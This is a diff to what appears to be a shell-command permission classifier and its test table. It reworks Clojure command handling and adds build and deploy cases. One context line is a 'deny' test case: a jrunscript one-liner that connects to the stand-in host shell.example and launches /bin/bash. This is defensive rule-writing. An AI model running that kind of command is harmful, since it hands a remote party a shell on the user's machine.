@@ -190,7 +190,7 @@ GROOVY = command(
 )
 CLOJURE = command(
     "clojure clj bb babashka clojure-cli cljs planck",
-    "RUNS? PLAIN...",
+    "READ_BY(java.clojure_program)? PLAIN...",
     [
         HELP,
         flags(
@@ -202,7 +202,7 @@ CLOJURE = command(
         option("-m --main", PLAIN),
     ],
     style=FIRST,
-    unlisted=PLAIN,
+    unlisted=READ_BY("task"),
     does=runs("the project's own code"),
     stdin="OPAQUE!",
 )
@@ -258,6 +258,9 @@ ask    jrunscript -e 'java.lang.Runtime.getRuntime().exec("make")'
 deny   jrunscript -e 'var s = new java.net.Socket("shell.example", 4000); new java.lang.ProcessBuilder("/bin/bash").start()'
 llm    jrunscript -f /tmp/x.js
 allow  jrunscript tools/count.js data.json
+ask    clojure -T:build deploy
+ask    clj -X:deploy
+allow  clojure -T:build jar && clojure -X:test :dirs '["test"]'
 allow  clojure -M:test -e "(require 'clojure.test 'app.rules-test) (clojure.test/run-tests 'app.rules-test)"
 allow  clojure -M -e "(require '[app.core :as c]) (println (c/parse \\"x\\"))"
 ask    clojure -M -e "(require '[clojure.java.shell :as s]) (s/sh \\"ls\\")"
